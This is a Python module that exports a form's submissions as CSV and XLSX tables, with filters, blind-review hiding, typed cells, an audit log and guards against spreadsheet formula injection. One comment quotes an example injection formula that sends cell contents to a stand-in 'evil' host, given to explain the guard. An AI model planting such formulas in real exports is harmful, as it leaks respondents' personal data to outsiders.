"""Exports of a form's submissions: one table of submissions (a row each, in submitted order,
one column per question in form order, then scores and tags), and one table per repeatable
group (a row per item: a delegation's participants one per row). The XLSX holds every table
as a sheet; each is also a CSV of its own. Rows are produced in batches (keyset pagination,
answers/scores/tags loaded per batch as plain tuples, no ORM objects kept), so memory stays
flat however many submissions a form has.

Cells are typed: a date answer is a date, a number a number, the submission's times are
moments in the form's time zone; everything else is the text the dashboard shows. Text a
spreadsheet would run as a formula is neutralised as each format allows: an apostrophe in
CSV; in XLSX a text cell (never evaluated) marked like Excel marks typed-in text, so the
value keeps no visible apostrophe ("+48 600 100 200" reads as typed).

Submission columns: reference, state, submitted at, last changed, one per input question of
the *current* version in form order (a group: its number of items), the weighted score and
the number of scorers when the form has a rubric, the tags — and last, one column per
question that exists only in earlier published versions, so an export never silently drops
an answer someone gave. Item columns: reference, state, the submission's short answers (to
say whose item it is), the item's number, one per question of the group."""

from __future__ import annotations

import csv
import io
import re
from collections import defaultdict
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import IO, Any
from zoneinfo import ZoneInfo

from flask_babel import gettext as _
from sqlalchemy import Select, and_, or_, select

from extensions import db
from forms.published import spec_for
from forms.spec import FieldSpec, FormSpec
from models import (
    Answer,
    AuditEntry,
    Form,
    FormVersion,
    Submission,
    SubmissionTag,
    Tag,
    User,
)
from services.access import actor_kind
from services.annotations import tag_names_of
from services.blind_review import hides_identity, identifying_fields, is_hidden
from services.scoring import weighted_average
from services.search import clean_query, submission_matches
from services.staff_input import normalise_tag
from workflows.lookup import workflow_of_version

BATCH_SIZE = 1000
# Spreadsheets run a cell starting with one of these as a formula (tab and CR because some
# programs strip them first): `=HYPERLINK("http://evil/?"&A1)` in an answer would leak data.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_CHUNK = 64 * 1024  # characters collected before a piece of the CSV is sent


class FilterError(ValueError):
    """A filter value that cannot be understood; the message is for the person."""


def neutralise(cell: str) -> str:
    """A leading apostrophe makes a would-be formula plain text (in CSV: an XLSX cell says
    it is text in the file itself)."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


# --- filters ---------------------------------------------------------------------------------


def apply_filters(
    query: Select,
    filters: Mapping[str, Any],
    timezone: ZoneInfo,
    hidden_fields: dict[int, set[str]] | None = None,
) -> Select:
    """Narrow a query over `Submission` by a simple dict, blank values ignored:
    `state` (one or a list), `date_from` / `date_to` (YYYY-MM-DD, inclusive, days in the form's
    time zone), `tag` (a tag name), `q` (part of the reference or of an answer, through the
    dashboard's search; `hidden_fields` per form version are not searched — blind review)."""
    states = filters.get("state")
    states = [states] if isinstance(states, str) else [s for s in states or () if s]
    if states:
        query = query.where(Submission.state.in_(states))
    if day := _day(filters.get("date_from")):
        query = query.where(Submission.submitted_at >= _midnight(day, timezone))
    if day := _day(filters.get("date_to")):
        query = query.where(Submission.submitted_at < _midnight(day + timedelta(days=1), timezone))
    if tag := normalise_tag(filters.get("tag") or ""):
        tagged = select(SubmissionTag.submission_id).join(Tag, Tag.id == SubmissionTag.tag_id)
        query = query.where(Submission.id.in_(tagged.where(Tag.name == tag)))
    if clean_query(filters.get("q") or ""):
        query = query.where(submission_matches(filters["q"], hidden_fields))
    return query


def _day(text: Any) -> date | None:
    if not text:
        return None
    try:
        return date.fromisoformat(str(text).strip())
    except ValueError:
        raise FilterError(_("Enter dates like 2027-01-31.")) from None


def _midnight(day: date, timezone: ZoneInfo) -> datetime:
    return datetime.combine(day, time(), tzinfo=timezone)


# --- tables ------------------------------------------------------------------------------

SUBMISSIONS = "submissions"  # the key of the table of submissions; a group's is its name
# Answers short enough to repeat on every item's row, to say whose item it is, are those
# of the types marked `short` (forms/field_types).

Cell = str | int | float | Decimal | date | datetime | None


@dataclass
class Table:
    key: str
    title: str  # the sheet's name in the XLSX
    header: list[str]


@dataclass
class _Column:
    name: str
    header: str
    field: FieldSpec  # used for submissions whose own version lacks the question


@dataclass
class _GroupPlan:
    column: _Column  # the group among the submission's columns
    children: list[_Column]
    number_header: str


@dataclass
class _Plan:
    spec: FormSpec
    language: str
    columns: list[_Column]
    current: int  # the first `current` columns are the current version's questions
    short: list[_Column]  # the current version's short answers, repeated on item rows
    groups: list[_GroupPlan]
    fields_by_version: dict[int, dict[str, FieldSpec]]
    has_rubric: bool
    blind: bool  # identifying answers are left out (blind review, viewer not an admin)
    hidden_fields: dict[int, set[str]]  # per version, answers not searched when blind
    viewer_id: int | None
    state_labels: dict[str, str]


@dataclass
class Export:
    """What one export holds: its tables, and their rows read in one pass."""

    plan: _Plan
    query: Select
    batch_size: int

    @property
    def tables(self) -> list[Table]:
        plan = self.plan
        return [
            Table(SUBMISSIONS, _("Submissions"), _header(plan)),
            *(Table(g.column.name, g.column.header, _item_header(plan, g)) for g in plan.groups),
        ]

    def table(self, key: str) -> Table | None:
        return next((t for t in self.tables if t.key == key), None)

    def rows(self, only: str | None = None) -> Iterator[tuple[str, list[Cell]]]:
        """(table key, row) for every table, or `only` one, without the headers."""
        return _rows(self.plan, self.query, self.batch_size, only)

    def lines(self, key: str = SUBMISSIONS) -> Iterator[list[Cell]]:
        """One table: its header, then its rows."""
        table = self.table(key)
        if table is None:
            raise LookupError(f"no table {key}")
        yield table.header
        for _key, row in self.rows(key):
            yield row


def prepare_export(
    form_id: int,
    filters: Mapping[str, Any] | None = None,
    *,
    language: str | None = None,
    viewer: User | None = None,
    batch_size: int = BATCH_SIZE,
) -> Export:
    """Checks the filters at once (FilterError), so a caller can refuse before streaming.

    With a `viewer`, the export holds what the dashboard shows them: in blind review answers
    marked `identifying` are left out (and not searched) unless the viewer is an admin, and the
    score average stays empty where they may not see it yet. Without one: everything."""
    form = db.session.get(Form, form_id)
    if form is None or form.current_version is None:
        raise LookupError(f"no published form {form_id}")
    spec = spec_for(form.current_version)
    query = select(
        Submission.id,
        Submission.reference,
        Submission.state,
        Submission.submitted_at,
        Submission.updated_at,
        Submission.form_version_id,
    ).where(Submission.form_id == form_id, Submission.is_test.is_(False))  # never tests
    plan = _plan(form, spec, language or spec.default_language, viewer)
    query = apply_filters(query, filters or {}, spec.timezone, plan.hidden_fields)
    return Export(plan, query, batch_size)


def export_rows(form_id: int, filters: Mapping[str, Any] | None = None, **options) -> Iterator:
    """The table of submissions: its header, then a row per submission."""
    return prepare_export(form_id, filters, **options).lines()


def _plan(form: Form, spec: FormSpec, language: str, viewer: User | None) -> _Plan:
    language = spec.language_for(language)
    blind = hides_identity(viewer, spec)
    versions = db.session.scalars(
        select(FormVersion)
        # Published versions only: a preview version (below 0) holds test submissions only.
        .where(FormVersion.form_id == form.id, FormVersion.number > 0)
        .order_by(FormVersion.number)
    ).all()
    fields_by_version = {v.id: {f.name: f for f in spec_for(v).inputs} for v in versions}
    hidden_fields = {v.id: identifying_fields(spec_for(v)) for v in versions if blind}
    newest_first = [fields_by_version[v.id] for v in reversed(versions)]
    columns, current = _merged(spec.inputs, newest_first, language, blind)
    groups = []
    for column in columns:
        if not column.field.kind.repeats:
            continue
        older = [
            [c for c in fields[column.name].children if c.is_input]
            for fields in newest_first
            if column.name in fields and fields[column.name].kind.repeats
        ]
        children, _count = _merged(
            [c for c in column.field.children if c.is_input], older, language, blind
        )
        item = column.field.text("item_label", language) or _("Item")
        groups.append(_GroupPlan(column, children, _("%(item)s no.", item=item)))
    workflow = workflow_of_version(form.current_version or versions[-1])
    return _Plan(
        spec=spec,
        language=language,
        columns=columns,
        current=current,
        short=[c for c in columns[:current] if c.field.kind.short],
        groups=groups,
        fields_by_version=fields_by_version,
        has_rubric=bool(spec.raw.get("rubric")),
        blind=blind,
        hidden_fields=hidden_fields,
        viewer_id=viewer.id if viewer is not None else None,
        state_labels={s: workflow.state_label(s, language) for s in workflow.states},
    )


def _merged(
    current: list[FieldSpec],
    newest_first: Iterable[Iterable[FieldSpec] | Mapping[str, FieldSpec]],
    language: str,
    blind: bool,
) -> tuple[list[_Column], int]:
    """Columns for the current version's questions, then for those only earlier versions
    asked (with their newest wording); and how many are current."""
    columns = [_Column(f.name, f.label(language), f) for f in current if not is_hidden(f, blind)]
    count = len(columns)
    seen = {f.name for f in current}
    for fields in newest_first:
        for field in fields.values() if isinstance(fields, Mapping) else fields:
            if field.name not in seen and not is_hidden(field, blind):
                header = _("%(label)s (earlier version)", label=field.label(language))
                columns.append(_Column(field.name, header, field))
            seen.add(field.name)
    return columns, count


def _column_header(column: _Column) -> str:
    if column.field.kind.repeats:  # its items have a table of their own
        return _("%(label)s (count)", label=column.header)
    return column.header


def _header(plan: _Plan) -> list[str]:
    header = [_("Reference"), _("State"), _("Submitted at"), _("Last changed")]
    header += [_column_header(c) for c in plan.columns[: plan.current]]
    if plan.has_rubric:
        header += [_("Score (weighted average)"), _("Scorers")]
    header.append(_("Tags"))
    header += [_column_header(c) for c in plan.columns[plan.current :]]
    return header


def _item_header(plan: _Plan, group: _GroupPlan) -> list[str]:
    return [
        _("Reference"),
        _("State"),
        *(c.header for c in plan.short),
        group.number_header,
        *(c.header for c in group.children),
    ]


# --- rows ------------------------------------------------------------------------------------


def _rows(
    plan: _Plan, query: Select, batch_size: int, only: str | None
) -> Iterator[tuple[str, list[Cell]]]:
    # Loaded here, in the session the rows are read in: a streamed response reads them after
    # the view has returned and its session has closed.
    viewer = db.session.get(User, plan.viewer_id) if plan.viewer_id is not None else None
    order = (Submission.submitted_at, Submission.id)
    after: tuple[datetime, int] | None = None
    while True:
        page = query
        if after is not None:  # keyset: (submitted_at, id) greater than the last row sent
            page = page.where(
                or_(
                    Submission.submitted_at > after[0],
                    and_(Submission.submitted_at == after[0], Submission.id > after[1]),
                )
            )
        batch = db.session.execute(page.order_by(*order).limit(batch_size)).all()
        if not batch:
            return
        yield from _batch_rows(plan, batch, viewer, only)
        after = (batch[-1].submitted_at, batch[-1].id)
        if len(batch) < batch_size:
            return


def _batch_rows(
    plan: _Plan, batch: list, viewer: User | None, only: str | None
) -> Iterator[tuple[str, list[Cell]]]:
    ids = [row.id for row in batch]
    answers: dict[int, dict[str, Any]] = defaultdict(dict)
    for submission_id, name, value in db.session.execute(
        select(Answer.submission_id, Answer.field, Answer.value).where(
            Answer.submission_id.in_(ids)
        )
    ):
        answers[submission_id][name] = value
    whole = only in (None, SUBMISSIONS)
    tags = tag_names_of(ids) if whole else defaultdict(list)
    scores = _scores(ids, viewer) if plan.has_rubric and whole else {}
    groups = [g for g in plan.groups if only in (None, g.column.name)]

    timezone = plan.spec.timezone
    for row in batch:
        own = plan.fields_by_version.get(row.form_version_id, {})
        given = answers.get(row.id, {})
        values = {
            c.name: _value(own.get(c.name, c.field), given.get(c.name), plan) for c in plan.columns
        }
        state = plan.state_labels.get(row.state, row.state)
        if whole:
            cells = [
                row.reference,
                state,
                _moment(row.submitted_at, timezone),
                _moment(row.updated_at, timezone),
            ]
            cells += [values[c.name] for c in plan.columns[: plan.current]]
            if plan.has_rubric:
                cells += scores[row.id]
            cells.append(", ".join(tags[row.id]) if row.id in tags else None)
            cells += [values[c.name] for c in plan.columns[plan.current :]]
            yield SUBMISSIONS, cells
        for group in groups:
            yield from _item_rows(plan, group, row, state, values, own, given)


def _item_rows(
    plan: _Plan,
    group: _GroupPlan,
    row: Any,
    state: str,
    values: dict[str, Cell],
    own: dict[str, FieldSpec],
    given: dict[str, Any],
) -> Iterator[tuple[str, list[Cell]]]:
    """A row per item of `group` in one submission (`row`): whose it is, then its answers
    (read with the submission's own version of each question, as for its other answers)."""
    items = given.get(group.column.name)
    if not isinstance(items, list):
        return
    field = own.get(group.column.name)
    own_children = {c.name: c for c in field.children} if field is not None else {}
    whose = [row.reference, state, *(values[c.name] for c in plan.short)]
    for number, item in enumerate(items, start=1):
        item = item if isinstance(item, dict) else {}
        cells = [
            _value(own_children.get(c.name, c.field), item.get(c.name), plan)
            for c in group.children
        ]
        yield group.column.name, [*whose, number, *cells]


def _scores(ids: list[int], viewer: User | None) -> dict[int, list[Cell]]:
    """[weighted average, number of scorers] as the dashboard shows them: the average stays
    empty where the viewer may not see it (a conflict of interest, or not scored yet)."""
    return {
        submission_id: [None if average is None else Decimal(f"{average:.2f}"), count]
        for submission_id, (average, count) in weighted_average(ids, for_user=viewer).items()
    }


def _moment(moment: datetime | None, timezone: ZoneInfo) -> datetime | None:
    return moment.astimezone(timezone).replace(microsecond=0) if moment else None


def _value(field: FieldSpec, value: Any, plan: _Plan) -> Cell:
    """A stored answer as a cell, as its type says (forms/field_types): dates and numbers
    keep their type; a group counts its items (they have their own table); anything else
    reads as the dashboard shows it."""
    return field.kind.spreadsheet_value(value, field, plan.language)


# --- files -----------------------------------------------------------------------------------


def csv_text(cell: Cell) -> str:
    """A cell as CSV text: moments and days in ISO 8601, would-be formulas neutralised."""
    if cell is None:
        return ""
    if isinstance(cell, datetime):
        return cell.isoformat(timespec="seconds")
    if isinstance(cell, date):
        return cell.isoformat()
    if isinstance(cell, str):
        return neutralise(cell)
    return str(cell)


def csv_chunks(rows: Iterable[list[Cell]]) -> Iterator[str]:
    """The CSV text in pieces of about 64 KB. It starts with a byte order mark: without it
    Excel reads UTF-8 as the local code page and garbles ą, ł, å, ö."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    for row in rows:
        writer.writerow([csv_text(cell) for cell in row])
        if buffer.tell() >= CSV_CHUNK:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
XLSX_CELL_MAX = 32767  # characters


def write_xlsx(
    tables: list[Table], rows: Iterable[tuple[str, list[Cell]]], target: IO[bytes]
) -> None:
    """An XLSX workbook onto `target`, a sheet per table. Write-only mode streams each row to
    a temporary file per sheet as it is appended, so memory stays flat; the zip is assembled
    on save."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    sheets = {}
    names: set[str] = set()
    bold = Font(bold=True)
    for table in tables:
        sheet = workbook.create_sheet(_sheet_name(table.title, names))
        sheet.freeze_panes = "A2"
        for index, text in enumerate(table.header, start=1):
            width = min(max(len(text) + 2, 12), 40)
            sheet.column_dimensions[get_column_letter(index)].width = width
        cells = _xlsx_cells(sheet)
        header = []
        for text in table.header:
            cell = cells(text)
            if isinstance(cell, str):
                cell = WriteOnlyCell(sheet, value=cell)
            cell.font = bold
            header.append(cell)
        sheet.append(header)
        sheets[table.key] = (sheet, cells)
    for key, row in rows:
        sheet, cells = sheets[key]
        sheet.append([cells(value) for value in row])
    workbook.save(target)


def _sheet_name(title: str, taken: set[str]) -> str:
    """At most 31 characters, none of []:*?/\\, unique in the workbook (case aside)."""
    base = SHEET_NAME_FORBIDDEN.sub(" ", title).strip(" '")[:31] or "Sheet"
    name, number = base, 1
    while name.casefold() in taken:
        number += 1
        suffix = f" ({number})"
        name = base[: 31 - len(suffix)] + suffix
    taken.add(name.casefold())
    return name


def _xlsx_cells(sheet):
    """A function that turns a value into what to append to `sheet`: the value itself where
    openpyxl writes it as it is; a styled cell for moments, days and text that would run as
    a formula. (openpyxl is imported once here, not for each of a million cells.)"""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    def cell(value: Cell):
        if isinstance(value, str):
            # Control characters (pasted from word processors) are not allowed in XLSX XML.
            text = ILLEGAL_CHARACTERS_RE.sub("", value)[:XLSX_CELL_MAX]
            if not text.startswith(FORMULA_STARTS):
                return text
            # A text cell is never evaluated; quotePrefix keeps it text when someone edits
            # it, the way Excel stores typed-in "'=…", without an apostrophe in the value.
            styled = WriteOnlyCell(sheet, value=text)
            styled.data_type = "s"
            styled.quotePrefix = True
            return styled
        if isinstance(value, datetime):  # already in the form's time zone; XLSX has none
            styled = WriteOnlyCell(sheet, value=value.replace(tzinfo=None))
            styled.number_format = "yyyy-mm-dd hh:mm:ss"
            return styled
        if isinstance(value, date):
            styled = WriteOnlyCell(sheet, value=value)
            styled.number_format = "yyyy-mm-dd"
            return styled
        return value

    return cell


def record_export(
    form_id: int, user: User, kind: str, filters: Mapping[str, Any], table: str | None = None
) -> None:
    """Exports carry personal data: who took which, with which filters, is logged."""
    data = {"format": kind, "filters": {k: v for k, v in filters.items() if v}}
    if table is not None:
        data["table"] = table
    db.session.add(
        AuditEntry(
            form_id=form_id,
            action="submissions.exported",
            actor_type=actor_kind(user),
            actor_id=user.id,
            data=data,
        )
    )
    db.session.commit()
